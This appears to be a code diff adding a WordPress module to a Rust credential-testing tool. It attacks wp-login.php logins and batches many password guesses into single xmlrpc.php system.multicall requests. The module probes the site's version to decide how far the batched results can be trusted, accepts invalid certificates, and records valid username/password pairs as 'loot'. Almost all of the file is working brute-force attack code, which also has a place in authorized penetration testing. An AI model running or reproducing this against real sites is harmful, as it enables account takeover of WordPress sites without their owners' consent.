@@ -0,0 +1,289 @@
+use std::collections::HashMap;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::Arc;
+use std::time::Duration;
+
+use async_trait::async_trait;
+use reqwest::header::{COOKIE, LOCATION};
+use reqwest::{redirect, Client};
+use tokio::sync::{oneshot, Mutex};
+
+use crate::creds::Credentials;
+use crate::session::{Error, Loot};
+use crate::Plugin;
+use crate::{utils, Options};
+
+pub(crate) mod options;
+mod xmlrpc;
+
+super::manager::register_plugin! {
+    "wordpress" => WordPress::new()
+}
+
+// how long the first credentials of a batch wait for others to join it
+const BATCH_WAIT: Duration = Duration::from_millis(500);
+
+// wp-login.php refuses to log in if this cookie is not set
+const TEST_COOKIE: &str = "wordpress_test_cookie=WP%20Cookie%20check";
+
+// successful logins redirect to the admin dashboard
+fn is_login_successful(location: Option<&str>) -> bool {
+    location.is_some_and(|l| l.contains("wp-admin"))
+}
+
+type Waiter = oneshot::Sender<Result<bool, Error>>;
+
+// credentials waiting to be sent with the next system.multicall
+struct Batch {
+    id: u64,
+    creds: Vec<(String, String)>,
+    waiters: Vec<Waiter>,
+}
+
+#[derive(Clone)]
+pub(crate) struct WordPress {
+    opts: options::Options,
+    batch_size: usize,
+    client: Client,
+    // pending batch of each target
+    batches: Arc<Mutex<HashMap<String, Batch>>>,
+    next_batch_id: Arc<AtomicU64>,
+    // whether each target reports every multicall result reliably, checked once
+    reliable: Arc<Mutex<HashMap<String, bool>>>,
+}
+
+impl WordPress {
+    pub fn new() -> Self {
+        WordPress {
+            opts: options::Options::default(),
+            batch_size: 1,
+            client: Client::new(),
+            batches: Arc::new(Mutex::new(HashMap::new())),
+            next_batch_id: Arc::new(AtomicU64::new(0)),
+            reliable: Arc::new(Mutex::new(HashMap::new())),
+        }
+    }
+
+    async fn login(&self, base: &str, creds: &Credentials, timeout: Duration) -> Result<bool, Error> {
+        let response = self
+            .client
+            .post(format!("{}/wp-login.php", base))
+            .header(COOKIE, TEST_COOKIE)
+            .form(&[
+                ("log", creds.username.as_str()),
+                ("pwd", creds.password.as_str()),
+                ("wp-submit", "Log In"),
+                ("redirect_to", &format!("{}/wp-admin/", base)),
+                ("testcookie", "1"),
+            ])
+            .timeout(timeout)
+            .send()
+            .await
+            .map_err(|e| e.to_string())?;
+
+        Ok(response.status().is_redirection()
+            && is_login_successful(
+                response
+                    .headers()
+                    .get(LOCATION)
+                    .and_then(|l| l.to_str().ok()),
+            ))
+    }
+
+    async fn is_reliable(&self, address: &str, base: &str, timeout: Duration) -> bool {
+        // hold the lock so that the target is only checked once
+        let mut reliable = self.reliable.lock().await;
+        if let Some(value) = reliable.get(address) {
+            return *value;
+        }
+
+        let version = match self.client.get(format!("{}/", base)).timeout(timeout).send().await {
+            Ok(response) => xmlrpc::parse_generator(&response.text().await.unwrap_or_default()),
+            Err(_) => None,
+        };
+        let value = version
+            .as_deref()
+            .is_some_and(xmlrpc::is_multicall_reliable);
+        log::debug!(
+            "wordpress {} version {:?}, multicall results reliable: {}",
+            address,
+            version,
+            value
+        );
+        reliable.insert(address.to_owned(), value);
+        value
+    }
+
+    // sends the batch, resending the credentials with unreliable results until all are known
+    async fn flush(&self, url: &str, batch: Batch, reliable: bool, timeout: Duration) {
+        let mut creds = batch.creds;
+        let mut waiters = batch.waiters;
+
+        while !creds.is_empty() {
+            let response = match self
+                .client
+                .post(url)
+                .header("Content-Type", "text/xml")
+                .body(xmlrpc::multicall_request(&creds))
+                // each login hashes the password server side
+                .timeout(timeout * creds.len() as u32)
+                .send()
+                .await
+            {
+                Ok(response) => response.text().await.map_err(|e| e.to_string()),
+                Err(e) => Err(e.to_string()),
+            };
+
+            let results = response.and_then(|body| {
+                let results = xmlrpc::parse_multicall_response(&body)?;
+                if results.len() != creds.len() {
+                    Err(format!(
+                        "expected {} multicall results, got {}",
+                        creds.len(),
+                        results.len()
+                    ))
+                } else {
+                    Ok(results)
+                }
+            });
+            let results = match results {
+                Ok(results) => results,
+                Err(e) => {
+                    for waiter in waiters {
+                        let _ = waiter.send(Err(e.clone()));
+                    }
+                    return;
+                }
+            };
+
+            // results after the first failure are not reliable on recent versions
+            let known = if reliable {
+                results.len()
+            } else {
+                results
+                    .iter()
+                    .position(|valid| !valid)
+                    .map(|i| i + 1)
+                    .unwrap_or(results.len())
+            };
+
+            creds.drain(..known);
+            for (waiter, valid) in waiters.drain(..known).zip(results) {
+                let _ = waiter.send(Ok(valid));
+            }
+        }
+    }
+
+    async fn multicall(
+        &self,
+        address: &str,
+        base: &str,
+        creds: &Credentials,
+        timeout: Duration,
+    ) -> Result<bool, Error> {
+        let reliable = self.is_reliable(address, base, timeout).await;
+        let (waiter, result) = oneshot::channel();
+
+        let (mut ready, leader_of) = {
+            let mut batches = self.batches.lock().await;
+            let batch = batches.entry(address.to_owned()).or_insert_with(|| Batch {
+                id: self.next_batch_id.fetch_add(1, Ordering::Relaxed),
+                creds: vec![],
+                waiters: vec![],
+            });
+            batch
+                .creds
+                .push((creds.username.to_owned(), creds.password.to_owned()));
+            batch.waiters.push(waiter);
+
+            if batch.creds.len() >= self.batch_size {
+                (batches.remove(address), None)
+            } else if batch.creds.len() == 1 {
+                (None, Some(batch.id))
+            } else {
+                (None, None)
+            }
+        };
+
+        // the first credentials of a batch send it if it doesn't fill up in time
+        if let Some(id) = leader_of {
+            tokio::time::sleep(BATCH_WAIT).await;
+            let mut batches = self.batches.lock().await;
+            if batches.get(address).is_some_and(|batch| batch.id == id) {
+                ready = batches.remove(address);
+            }
+        }
+
+        if let Some(batch) = ready {
+            self.flush(&format!("{}/xmlrpc.php", base), batch, reliable, timeout)
+                .await;
+        }
+
+        result.await.map_err(|e| e.to_string())?
+    }
+}
+
+#[async_trait]
+impl Plugin for WordPress {
+    fn description(&self) -> &'static str {
+        "WordPress wp-login.php and xmlrpc.php system.multicall password authentication."
+    }
+
+    fn setup(&mut self, opts: &Options) -> Result<(), Error> {
+        self.opts = opts.wordpress.clone();
+        // each worker waits for its own result, bigger batches would never fill up
+        self.batch_size = self.opts.wordpress_batch.min(opts.concurrency).max(1);
+        self.client = Client::builder()
+            .danger_accept_invalid_certs(true)
+            .redirect(redirect::Policy::none())
+            .build()
+            .map_err(|e| e.to_string())?;
+        Ok(())
+    }
+
+    async fn attempt(
+        &self,
+        creds: &Credentials,
+        timeout: Duration,
+    ) -> Result<Option<Vec<Loot>>, Error> {
+        let (host, port) = utils::parse_target(&creds.target, 80)?;
+        let address = format!("{}:{}", host, port);
+        let ssl = self.opts.wordpress_ssl || port == 443 || creds.target.starts_with("https://");
+        let base = format!(
+            "{}://{}{}",
+            if ssl { "https" } else { "http" },
+            &address,
+            self.opts.wordpress_path.trim_end_matches('/')
+        );
+
+        let valid = if self.opts.wordpress_xmlrpc {
+            self.multicall(&address, &base, creds, timeout).await?
+        } else {
+            self.login(&base, creds, timeout).await?
+        };
+
+        Ok(if valid {
+            Some(vec![Loot::new(
+                "wordpress",
+                &address,
+                [
+                    ("username".to_owned(), creds.username.to_owned()),
+                    ("password".to_owned(), creds.password.to_owned()),
+                ],
+            )])
+        } else {
+            None
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::is_login_successful;
+
+    #[test]
+    fn can_detect_login_outcome() {
+        assert!(is_login_successful(Some("http://blog.local/wp-admin/")));
+        assert!(!is_login_successful(None));
+    }
+}